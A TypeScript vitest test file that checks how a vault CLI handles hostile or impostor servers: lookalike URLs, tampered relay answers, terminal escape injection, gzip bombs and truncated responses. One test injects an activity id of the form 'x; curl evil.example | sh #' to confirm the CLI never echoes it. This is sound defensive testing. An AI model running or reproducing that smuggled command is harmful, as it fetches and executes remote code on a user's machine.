/** Commands that reach a vault by its URL: what goes there, what is believed of it, and what names it. */
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Writable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { defined } from '../../main/lib/defined.ts';
import {
  CommandProcess,
  newTestKey,
  resultOf,
  runCommand,
  startDevProcess,
  temporaryDirectory,
  TestClient,
  testKeyOf,
  type Answer,
  type DevProcess,
} from '../support/support.ts';
import { Terminal } from '../support/terminal.ts';

let dev: DevProcess;
const home = temporaryDirectory();
beforeAll(async () => {
  dev = await startDevProcess();
});
afterAll(async () => {
  await dev[Symbol.asyncDispose]();
  home[Symbol.dispose]();
});

const keyValue = (): string => `${dev.line.apiPublicKey}:${dev.line.apiPrivateKey}`;
const variables = (): Record<string, string> => ({
  KEYHEARTH_URL: dev.line.url,
  KEYHEARTH_ORGANIZATION: dev.line.organizationId,
  KEYHEARTH_API_KEY: keyValue(),
  KEYHEARTH_SIGNER: dev.line.signerPublicKey,
});
/** The variables, and these in their places; undefined takes one away. */
const having = (changed: Record<string, string | undefined> = {}): Record<string, string> =>
  defined({ HOME: home.path, ...variables(), ...changed });
const run = (argv: readonly string[], changed: Record<string, string | undefined> = {}, input = '') =>
  runCommand(argv, { environment: having(changed), input });

const bare = {
  KEYHEARTH_URL: undefined,
  KEYHEARTH_ORGANIZATION: undefined,
  KEYHEARTH_API_KEY: undefined,
  KEYHEARTH_SIGNER: undefined,
};

/** A server that answers as a test says. */
async function startImpostor(
  answer: (request: IncomingMessage, response: ServerResponse) => void,
): Promise<AsyncDisposable & { readonly url: string; readonly seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((request, response) => {
    seen.push(
      `${String(request.method)} ${String(request.url)} ${String(request.headers['x-stamp'] !== undefined)}`,
    );
    answer(request, response);
    request.resume();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    seen,
    url: `http://127.0.0.1:${String((server.address() as AddressInfo).port)}`,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

const json =
  (value: unknown, status = 200) =>
  (_request: IncomingMessage, response: ServerResponse): void => {
    response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value));
  };

describe('every command that takes an API key reaches the vault that is named', () => {
  test('by variables, by a file with the line of dev, and by options', async () => {
    const file = join(home.path, 'dev.json');
    writeFileSync(file, `${JSON.stringify(dev.line)}\n`);
    const option = ['--vault-file', file];
    const byVariables = await run(['wallets', 'create', '--name', 'CI', '--account', 'ethereum', '--json']);
    expect(byVariables).toMatchObject({ code: 0, stderr: '' });
    const ways: [string[], Record<string, string | undefined>][] = [
      [option, bare],
      // Options of the command line are not mixed with variables.
      [option, { KEYHEARTH_URL: 'http://127.0.0.1:9', KEYHEARTH_SIGNER: 'none', KEYHEARTH_API_KEY: 'no' }],
      [[], { ...bare, KEYHEARTH_VAULT_FILE: file }],
      [
        ['--url', dev.line.url, '--organization-id', dev.line.organizationId],
        { ...bare, KEYHEARTH_API_KEY: keyValue() },
      ],
      // A variable that a pipeline sets to nothing is not set.
      [[], { KEYHEARTH_VAULT_FILE: '', KEYHEARTH_SIGNER: '' }],
      [[], { KEYHEARTH_URL: `${dev.line.url}/` }],
    ];
    for (const [argv, changed] of ways) {
      const listed = await run(['wallets', 'list', '--json', ...argv], changed);
      expect(listed, JSON.stringify([argv, changed])).toMatchObject({ code: 0, stderr: '' });
      expect(listed.stdout).toContain('"CI"');
    }
  });

  test('approvals, webhooks, users, policies, bots, imports, exports and requests too', async () => {
    const words = 'test test test test test test test test test test test junk';
    const imported = await run(
      ['import', 'wallet', '--name', 'Imported', '--account', 'ethereum', '--json'],
      {},
      `${words}\n`,
    );
    expect(imported).toMatchObject({ code: 0, stderr: '' });
    expect(imported.stdout).toContain('0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266');
    const output = join(home.path, 'words');
    const exported = await run(['export', 'wallet', 'Imported', '--output', output, '--json']);
    expect(exported).toMatchObject({ code: 0 });
    for (const argv of [
      ['approvals', 'list'],
      ['webhooks', 'list'],
      ['users', 'list'],
      ['policies', 'list'],
      // Without a key it would ask over the control socket, which leads to this machine's vault.
      ['bots', 'list'],
      ['request', '--path', '/public/v1/query/whoami', '--body', '{}'],
    ]) {
      const { code, stderr } = await run([...argv, '--json']);
      expect({ argv, code, stderr }).toEqual({ argv, code: 0, stderr: '' });
    }
  });

  test('a directory on the command line means this machine, whatever variables name', async () => {
    const { code, stderr } = await run(['--data-dir', join(home.path, 'none'), 'wallets', 'list']);
    expect(code).toBe(3);
    expect(stderr).toMatch(/there is no vault in .*none/);
  });

  test.each([
    ['lock', '--url', 'http://127.0.0.1:9'],
    ['settings', 'list', '--vault-file', 'x'],
  ])('%s says that it acts on this machine alone', async (...argv) => {
    const { code, stderr } = await run(argv, bare);
    expect(code).toBe(2);
    expect(stderr).toMatch(
      /unknown option '--[a-z-]+': this command works on the vault of this computer only/,
    );
  });
});

describe('KEYHEARTH_API_KEY', () => {
  test('is a pair in hex, or a file with that or with the private key', async () => {
    const files = { pair: keyValue(), private: dev.line.apiPrivateKey };
    const values = [keyValue().toUpperCase()];
    for (const [name, content] of Object.entries(files)) {
      writeFileSync(join(home.path, name), `${content}\n`);
      values.push(join(home.path, name));
    }
    for (const value of values) {
      expect(await run(['wallets', 'list', '--json'], { KEYHEARTH_API_KEY: value })).toMatchObject({
        code: 0,
      });
    }
  });

  test('is never quoted, whatever is wrong with it, and a key that is named wins', async () => {
    const { apiPublicKey, apiPrivateKey } = dev.line;
    const other = apiPrivateKey.replace(/.$/, (last) => (last === '0' ? '1' : '0'));
    const file = join(home.path, 'no-key');
    writeFileSync(file, `key=${apiPrivateKey}`);
    for (const value of [
      apiPrivateKey,
      `${apiPublicKey}:${other}`,
      `${apiPublicKey}:${apiPrivateKey}:P-256`,
      `${apiPrivateKey}:${apiPublicKey}`,
      `${apiPrivateKey}\u0000`.slice(0, 64).repeat(70),
      file,
    ]) {
      const { code, stdout, stderr } = await run(['wallets', 'list', '--json'], { KEYHEARTH_API_KEY: value });
      expect(stdout).toBe('');
      expect([1, 2]).toContain(code);
      expect(stderr).toContain('KEYHEARTH_API_KEY');
      for (const secret of [apiPrivateKey, other]) expect(stderr).not.toContain(secret.slice(0, 16));
    }
    const named = await run(['wallets', 'list', '--api-key', 'named']);
    expect(named.stderr).toMatch(/named\.public does not exist/);
    const keys = join(home.path, '.config/keyhearth/keys');
    mkdirSync(keys, { recursive: true });
    writeFileSync(join(keys, 'named.public'), apiPublicKey);
    writeFileSync(join(keys, 'named.private'), apiPrivateKey);
    const wrong = { KEYHEARTH_API_KEY: 'no-such-file' };
    expect(await run(['wallets', 'list', '--api-key', 'named'], wrong)).toMatchObject({ code: 0 });
    expect(await run(['wallets', 'list'], wrong)).toMatchObject({ code: 2 });
  });
});

describe('what stamps are not sent to', () => {
  test.each([
    ['http://keyhearth:7377', /"keyhearth:7377" is another machine, and http:\/\/ lets everything between/],
    ['http://127.0.0.1.evil.example', /is another machine/],
    ['http://vault.localhost', /is another machine/],
    ['http://[::2]', /is another machine/],
    ['http://user:secret-word@127.0.0.1', /expected none with a user name or a password/],
    ['https://127.0.0.1/?a=secret-word', /without a query/],
    ['ftp://127.0.0.1', /expected http:/],
    ['127.0.0.1:7377', /expected http:/],
  ])('%s', async (url, message) => {
    const { code, stdout, stderr } = await run(['wallets', 'list'], { KEYHEARTH_URL: url });
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr).toMatch(message);
  });

  test('another machine without TLS, unless that is asked for', async () => {
    const url = 'http://keyhearth.invalid:1';
    for (const [argv, changed] of [
      [['--allow-http'], {}],
      [[], { KEYHEARTH_ALLOW_HTTP: '1' }],
    ] as const) {
      const { code, stderr } = await run(['wallets', 'list', ...argv], { KEYHEARTH_URL: url, ...changed });
      expect(code).toBe(3);
      expect(stderr).toMatch(/nothing answers at http:\/\/keyhearth\.invalid:1/);
    }
    expect(await run(['wallets', 'list'], { KEYHEARTH_URL: url, KEYHEARTH_ALLOW_HTTP: 'no' })).toMatchObject({
      code: 2,
    });
  });

  test('where a redirect leads', async () => {
    await using target = await startImpostor(json({ wallets: [] }));
    for (const status of [301, 307]) {
      await using server = await startImpostor((request, response) => {
        response.writeHead(status, { location: `${target.url}${String(request.url)}` }).end();
      });
      for (const command of [
        ['wallets', 'list'],
        ['request', '--path', '/public/v1/query/whoami', '--body', '{}'],
      ]) {
        const { code } = await run(command, { KEYHEARTH_URL: server.url, KEYHEARTH_SIGNER: undefined });
        expect(code).toBe(3);
      }
      expect(server.seen).toHaveLength(2);
    }
    expect(target.seen).toEqual([]);
  });
});

/** Passes requests on to the vault, and changes what it answers. */
const startRelay = (change: (path: string, answer: string) => string | Promise<string>) =>
  startImpostor((request, response) => {
    const pass = async (): Promise<void> => {
      const { method = 'GET', url = '', headers } = request;
      const body = method === 'POST' ? { body: await buffer(request) } : {};
      const stamp = headers['x-stamp'];
      const sent = { method, headers: defined({ 'x-stamp': stamp?.toString() }), ...body };
      const answer = await fetch(`${dev.line.url}${url}`, sent);
      response.writeHead(answer.status).end(await change(url, await answer.text()));
    };
    pass().catch((error: unknown) => response.destroy(error as Error));
  });

describe('what is believed of a server', () => {
  test('not that it is the vault, without the signer that was named; nothing is stamped for it', async () => {
    await using server = await startImpostor(json({ signer: `04${'ab'.repeat(64)}` }));
    const { code, stderr } = await run(['wallets', 'list'], { KEYHEARTH_URL: server.url });
    expect(code).toBe(1);
    expect(stderr).toMatch(/is not the vault of organization ".*": its signer key is "04ab/);
    expect(server.seen).toEqual(['GET /public/v1/discovery/keys false']);
  });

  test('no answer about another organization', async () => {
    const organizationId = '00000000-0000-4000-8000-000000000000';
    const activity = {
      id: 'a',
      status: 'ACTIVITY_STATUS_COMPLETED',
      fingerprint: 'f',
      result: {},
      organizationId,
    };
    for (const [answer, argv] of [
      [{ organizationId, wallets: [] }, ['wallets', 'list']],
      [{ activity }, ['wallets', 'create', '--name', 'x']],
    ] as const) {
      await using server = await startImpostor(json(answer));
      const { code, stdout, stderr } = await run(argv, {
        KEYHEARTH_URL: server.url,
        KEYHEARTH_SIGNER: undefined,
      });
      expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
      expect(stderr).toMatch(
        /its answer is for organization "00000000-0000-4000-8000-000000000000", expected/,
      );
    }
  });

  test('not which key signs for it: a secret goes to none whose signer was not named', async () => {
    for (const argv of [
      ['import', 'wallet', '--name', 'x', '--account', 'ethereum'],
      ['import', 'private-key', '--name', 'x', '--curve', 'secp256k1'],
      ['export', 'wallet', 'x', '--output', join(home.path, 'never')],
    ]) {
      await using server = await startImpostor(json({}));
      const { code, stderr } = await run(
        argv,
        { KEYHEARTH_URL: server.url, KEYHEARTH_SIGNER: undefined },
        'x\n',
      );
      expect(code).toBe(2);
      expect(stderr).toMatch(/another server could answer in its place, so no secret is sent to it/);
      expect(server.seen).toEqual([]);
    }
  });

  describe('no answer in the place of another: a server between command and vault', () => {
    const stored = async (value: string): Promise<string> => {
      const { stdout } = await run(['secret', 'set', randomUUID(), '--json'], {}, value);
      return (JSON.parse(stdout) as { secretId: string }).secretId;
    };
    type Payloads = string[];

    test.each<[string, (payloads: Payloads) => Payloads]>([
      ['swaps two secrets', (payloads) => payloads.toReversed()],
      ['leaves one out', (payloads) => payloads.slice(0, 1)],
      ['gives one twice', ([first = '']) => [first, first]],
    ])('%s of one export', async (_, change) => {
      const [one, other] = [await stored('first value'), await stored('second value')];
      const file = join(home.path, 'relayed.env');
      writeFileSync(file, `ONE=keyhearth://${one}\nOTHER=keyhearth://${other}\n`, { mode: 0o600 });
      await using relay = await startRelay((path, text) => {
        if (!path.endsWith('export_secrets')) return text;
        const answer = JSON.parse(text) as {
          activity: { result: { exportSecretsResult: { secretPayloads: Payloads } } };
        };
        const result = answer.activity.result.exportSecretsResult;
        result.secretPayloads = change(result.secretPayloads);
        return JSON.stringify(answer);
      });
      const started = ['--env', file, '--no-mask', '--', 'sh', '-c', 'echo started: $ONE, $OTHER'];
      const direct = await run(['run', ...started]);
      expect(direct.stdout).toBe('started: first value, second value\n');
      const relayed = await run(['run', ...started], { KEYHEARTH_URL: relay.url });
      expect(relayed).toMatchObject({ code: 1, stdout: '' });
    });
  });

  test('not which user the command’s key is: nothing is encrypted for another', async () => {
    const { apiPrivateKey, apiPublicKey, organizationId, url } = dev.line;
    const root = new TestClient(url, organizationId, testKeyOf(apiPrivateKey, apiPublicKey));
    const key = newTestKey();
    const made = await root.submit('create_users', 'CREATE_USERS_V3', {
      users: [
        {
          ...{ userName: 'In between', authenticators: [], oauthProviders: [], userTags: [] },
          apiKeys: [{ apiKeyName: 'key', publicKey: key.publicKey, curveType: 'API_KEY_CURVE_P256' }],
        },
      ],
    });
    const [userId = ''] = resultOf(made).userIds;
    const everything = { effect: 'EFFECT_ALLOW', condition: 'true', notes: '' };
    await root.submit('create_policy', 'CREATE_POLICY_V3', {
      ...{ policyName: 'In between', ...everything },
      consensus: `approvers.any(user, user.id == '${userId}')`,
    });
    // The server is run by a user of the organization, whose own bundles the vault signs like all others.
    const own = root.as(key);
    const answers: Record<string, () => Promise<Answer>> = {
      whoami: () => own.query('whoami'),
      get_signed_whoami: () => own.query('get_signed_whoami'),
      init_import_wallet: () => own.submit('init_import_wallet', 'INIT_IMPORT_WALLET', { userId }),
      init_import_private_key: () =>
        own.submit('init_import_private_key', 'INIT_IMPORT_PRIVATE_KEY', { userId }),
      init_import_secrets: () =>
        own.submit('init_import_secrets', 'INIT_IMPORT_SECRETS', {
          encryptionSuite: 'TRANSPORT_ENCRYPTION_SUITE_ENCLAVE_ENCRYPT_V1',
          numSecrets: 1,
        }),
    };
    const words = 'test test test test test test test test test test test junk\n';
    const attempts: readonly (readonly [readonly string[], readonly string[], string])[] = [
      [Object.keys(answers), ['import', 'wallet', '--name', 'Between', '--account', 'ethereum'], words],
      [
        Object.keys(answers),
        ['import', 'private-key', '--name', 'Between', '--curve', 'secp256k1'],
        'ab'.repeat(32),
      ],
      [Object.keys(answers), ['secret', 'set', 'between'], 'value'],
      // Only the bundle is the other's.
      [['init_import_wallet'], ['import', 'wallet', '--name', 'Between', '--account', 'ethereum'], words],
      [['init_import_secrets'], ['secret', 'set', 'between'], 'value'],
    ];
    for (const [lies, argv, input] of attempts) {
      const passed: string[] = [];
      await using relay = await startRelay(async (path, text) => {
        const operation = path.split('/').at(-1) ?? '';
        passed.push(operation);
        const lie = lies.includes(operation) ? answers[operation] : undefined;
        return lie === undefined ? text : (await lie()).text;
      });
      const result = await run([...argv, '--json'], { KEYHEARTH_URL: relay.url }, input);
      expect(result, argv.join(' ')).toMatchObject({ code: 1, stdout: '' });
      expect(passed.filter((operation) => operation.startsWith('import_'))).toEqual([]);
    }
  }, 120_000);

  test('not which request a fingerprint names: no other one is voted on', async () => {
    const [wanted, other] = ['a'.repeat(64), 'b'.repeat(64)];
    const activity = {
      ...{ id: wanted, fingerprint: `sha256:${other}`, type: 'ACTIVITY_TYPE_CREATE_API_KEYS_V2' },
      ...{ status: 'ACTIVITY_STATUS_CONSENSUS_NEEDED', intent: {}, result: {}, votes: [] },
      ...{ canApprove: true, canReject: true, createdAt: { seconds: '1' } },
    };
    const answers = { activity, activities: [activity], policyEvaluations: [], policies: [] };
    await using server = await startImpostor(
      json({ ...answers, signer: dev.line.signerPublicKey, configs: { quorum: { threshold: 1 } } }),
    );
    for (const named of [wanted, `sha256:${wanted}`, `sha256:${wanted.slice(0, 12)}`]) {
      const { code } = await run(['approvals', 'approve', named, '--yes'], { KEYHEARTH_URL: server.url });
      expect(code).toBe(1);
    }
    expect(server.seen.filter((line) => line.includes('approve_activity'))).toEqual([]);
  });

  test('not which key files of this machine are to be deleted', async () => {
    const directory = join(home.path, 'relayed');
    const keys = join(directory, 'keys');
    mkdirSync(keys, { recursive: true });
    writeFileSync(join(keys, 'owner.public'), dev.line.apiPublicKey);
    writeFileSync(join(keys, 'owner.private'), dev.line.apiPrivateKey, { mode: 0o600 });
    const own = { KEYHEARTH_CONFIG_DIR: directory, KEYHEARTH_API_KEY: undefined };
    const account = ['--account', 'ethereum'];
    expect(await run(['wallets', 'create', '--name', 'Paying', ...account], own)).toMatchObject({ code: 0 });
    const terms = ['--wallet', 'Paying', '--budget', '0.1 ETH/day', '--json'];
    const added = await run(['bots', 'add', 'payer', ...terms], own);
    expect(added.stderr).toBe('');
    const { userId } = JSON.parse(added.stdout) as { userId: string };
    await using relay = await startRelay((path, text) => {
      if (!path.endsWith('list_users')) return text;
      const answer = JSON.parse(text) as {
        users: { userId: string; userName: string; apiKeys: unknown[] }[];
      };
      for (const user of answer.users) {
        if (user.userId !== userId) continue;
        user.userName = 'owner';
        user.apiKeys = answer.users.flatMap(({ apiKeys }) => apiKeys);
      }
      return JSON.stringify(answer);
    });
    const removed = await run(['bots', 'remove', userId, '--yes'], { ...own, KEYHEARTH_URL: relay.url });
    expect(removed).toMatchObject({ code: 0, stderr: '' });
    expect(removed.stdout).toContain('Key files on this computer stay');
    expect(existsSync(join(keys, 'owner.private'))).toBe(true);
  });

  test('no name moves anything in a question on a terminal', async () => {
    const created = await run(['wallets', 'create', '--name', 'Named', '--account', 'ethereum', '--json']);
    const { walletId } = JSON.parse(created.stdout) as { walletId: string };
    await using relay = await startRelay((_path, text) =>
      text.replaceAll('Named', String.raw`\u009b2J\u202edemaN`),
    );
    const there = having({ KEYHEARTH_URL: relay.url });
    await using terminal = new Terminal(`export wallet ${walletId}`, there);
    await terminal.type('n', 'on this terminal?');
    expect(await terminal.ended()).toBe(1);
    expect(terminal.shown).toContain('demaN');
    expect(terminal.shown).not.toMatch(/[\u009b\u202e]/);
  });

  test('not the id of an activity, which a person pastes into the next command', async () => {
    await using relay = await startRelay((path, text) => {
      if (!path.endsWith('/create_wallet')) return text;
      const { activity } = JSON.parse(text) as { activity: object };
      const id = 'x; curl evil.example | sh #';
      return JSON.stringify({ activity: { ...activity, id, status: 'ACTIVITY_STATUS_CONSENSUS_NEEDED' } });
    });
    const create = ['wallets', 'create', '--name', 'Pasted', '--account', 'ethereum'];
    const { code, stdout, stderr } = await run(create, { KEYHEARTH_URL: relay.url });
    expect(code).toBe(1);
    expect(stdout + stderr).not.toContain('evil.example');
    expect(stderr).toContain('activity.id');
  });

  test('none of its words move anything on a terminal', async () => {
    const escape = '\u001b]0;owned\u0007\u202e';
    const shown = String.raw`\u001b]0;owned\u0007\u202e`;
    const off = { KEYHEARTH_SIGNER: undefined };
    for (const [value, status] of [
      [{ message: escape }, 403],
      [{ wallets: [], note: escape }, 200],
    ] as const) {
      await using server = await startImpostor(json(value, status));
      const request = ['request', '--path', '/public/v1/query/whoami', '--body', '{}'];
      for (const argv of [['wallets', 'list'], request, [...request, '--json']]) {
        const { stdout, stderr } = await run(argv, { KEYHEARTH_URL: server.url, ...off });
        for (const part of ['\u001b', '\u0007', '\u202e']) expect(stdout + stderr).not.toContain(part);
        if (argv.includes('--json')) expect(stdout).toContain(shown);
      }
    }
    await using garbage = await startImpostor((_request, response) => response.end(escape));
    const { stdout, stderr } = await run(['request', '--path', '/x', '--body', '{}', '--json'], {
      KEYHEARTH_URL: garbage.url,
      ...off,
    });
    expect(stdout + stderr).not.toContain('\u001b');
  });
});

// The class: a server that is not a vault makes a command use up the machine's memory.
describe('an answer without end', () => {
  const endless = (stream: Writable): void => {
    const more = (): void => {
      while (!stream.destroyed && stream.write(Buffer.alloc(1 << 20, ' ')));
    };
    stream.on('drain', more).on('error', () => undefined);
    more();
  };
  /** More than an answer may have, in little. */
  const compressed = gzipSync(Buffer.alloc(65 << 20, ' '));

  test.each<[string, RegExp, (response: ServerResponse) => void]>([
    [
      'of a server',
      /its answer is larger than 64 MiB/,
      (response) => {
        endless(response.writeHead(200));
      },
    ],
    [
      'of a server that compresses it',
      /its answer is encoded, which was not asked for/,
      (response) => response.writeHead(200, { 'content-encoding': 'gzip' }).end(compressed),
    ],
  ])('%s is not read to its end', async (_, problem, answer) => {
    await using server = await startImpostor((_request, response) => {
      answer(response);
    });
    const at = { KEYHEARTH_URL: server.url, KEYHEARTH_SIGNER: undefined };
    for (const argv of [
      ['wallets', 'list'],
      ['request', '--path', '/public/v1/query/whoami', '--body', '{}'],
    ]) {
      const { code, stdout, stderr } = await run(argv, at);
      expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
      expect(stderr).toMatch(/is not a vault/);
      expect(stderr).toMatch(problem);
    }
  });
});

// The class: an answer that was cut off is taken for whole, or what may have been executed is asked for again.
test.each<[string, (response: ServerResponse) => void]>([
  ['shorter than it says', (response) => response.writeHead(200, { 'content-length': '100' }).write('{}')],
  ['without the end of its last piece', (response) => response.writeHead(200).write('{}')],
  ['that never begins', () => undefined],
])('an answer %s is none, and nothing is asked twice', async (_, begin) => {
  await using server = await startImpostor((_request, response) => {
    begin(response);
    setTimeout(() => response.socket?.destroy(), 100);
  });
  const argv = ['request', '--path', '/public/v1/submit/create_wallet', '--body', '{}'];
  const { code, stdout, stderr } = await run(argv, {
    KEYHEARTH_URL: server.url,
    KEYHEARTH_SIGNER: undefined,
  });
  expect({ code, stdout, requests: server.seen.length }).toEqual({ code: 3, stdout: '', requests: 1 });
  expect(stderr).toMatch(/nothing answers at/);
});

// The class: a script that reads JSON has to look for the reason of a refusal in a sentence.
describe('an error in JSON carries what the API said', () => {
  test('its code, its name and the policies that decided, for every kind of refusal', async () => {
    const policyEvaluations = [{ policyId: 'p', outcome: 'OUTCOME_DENY_EXPLICIT' }];
    const refusal = {
      code: 7,
      message: 'no',
      turnkeyErrorCode: 'FORBIDDEN',
      details: [{ '@type': 'a', policyEvaluations }, { '@type': 'b' }],
    };
    await using server = await startImpostor(json(refusal, 403));
    const at = { KEYHEARTH_URL: server.url, KEYHEARTH_SIGNER: undefined };
    const { code, stdout, stderr } = await run(['wallets', 'create', '--name', 'x', '--json'], at);
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(JSON.parse(stderr)).toEqual({
      error: { message: 'no', code: 7, turnkeyErrorCode: 'FORBIDDEN', policyEvaluations },
    });
  });

  test('of a vault that denies a user by a policy', async () => {
    const { stdout } = await run(['users', 'create', '--name', 'Denied', '--json']);
    const { userId } = JSON.parse(stdout) as { userId: string };
    expect((await run(['keygen', '--name', 'denied', '--user', userId])).stderr).toBe('');
    const policy = ['--name', 'Nothing', '--effect', 'deny', '--json'];
    expect((await run(['policies', 'create', ...policy])).code).toBe(0);
    const refused = await run(['wallets', 'create', '--name', 'x', '--api-key', 'denied', '--json'], {
      KEYHEARTH_API_KEY: undefined,
    });
    expect(refused).toMatchObject({ code: 1, stdout: '' });
    expect(JSON.parse(refused.stderr)).toMatchObject({
      error: {
        message: expect.any(String) as string,
        code: 7,
        turnkeyErrorCode: 'REQUEST_NOT_AUTHORIZED',
        policyEvaluations: expect.arrayContaining([
          expect.objectContaining({ outcome: 'OUTCOME_DENY_EXPLICIT' }),
        ]) as unknown,
      },
    });
    expect((await run(['policies', 'delete', 'Nothing', '--yes'])).code).toBe(0);
  });
});

describe('an export to a file that is ended while the vault answers', () => {
  test.each(['SIGINT', 'SIGTERM', 'SIGHUP', 'SIGKILL'] as const)('by %s', async (signal) => {
    const name = `Ended by ${signal}`;
    expect(await run(['wallets', 'create', '--name', name])).toMatchObject({ code: 0 });
    using directory = temporaryDirectory();
    const file = join(directory.path, 'words');
    const argv = ['export', 'wallet', name, '--output', file];
    const isAsked = Promise.withResolvers<string>();
    const isOver = Promise.withResolvers<string>();
    await using relay = await startRelay((path, text) => {
      if (!path.endsWith('/export_wallet')) return text;
      isAsked.resolve(path);
      return isOver.promise;
    });
    await using ended = new CommandProcess(argv, { environment: having({ KEYHEARTH_URL: relay.url }) });
    await Promise.race([isAsked.promise, ended.ended()]);
    expect(await ended.stop(signal), ended.stderr).toBe(signal);
    isOver.resolve('');
    // A name that is taken by nothing would look like an export, and have the next one refused.
    expect(existsSync(file)).toBe(false);
    // No program can do anything as it is killed.
    if (signal !== 'SIGKILL') expect(readdirSync(directory.path)).toEqual([]);
    expect(await run(argv)).toMatchObject({ code: 0 });
    expect(readFileSync(file, 'utf8').split(' ')).toHaveLength(12);
  });
});

test.each([
  [{ KEYHEARTH_URL: undefined }, /the organization or the signer of a vault is named, but not where it is/],
  [{ KEYHEARTH_ORGANIZATION: undefined }, /a vault is named, but no organization/],
  [{ KEYHEARTH_SIGNER: '04ab' }, /invalid KEYHEARTH_SIGNER: expected 04 and 128 hex digits/],
  [{ KEYHEARTH_VAULT_FILE: '/no/such' }, /the vault file "\/no\/such" cannot be read: there is no such file/],
  [{ KEYHEARTH_VAULT_FILE: import.meta.filename }, /does not hold the line that `keyhearth dev` writes/],
])('half a name is refused, never taken for this machine’s vault: %j', async (changed, message) => {
  const { code, stdout, stderr } = await run(['wallets', 'list'], changed);
  expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
  expect(stderr).toMatch(message);
});
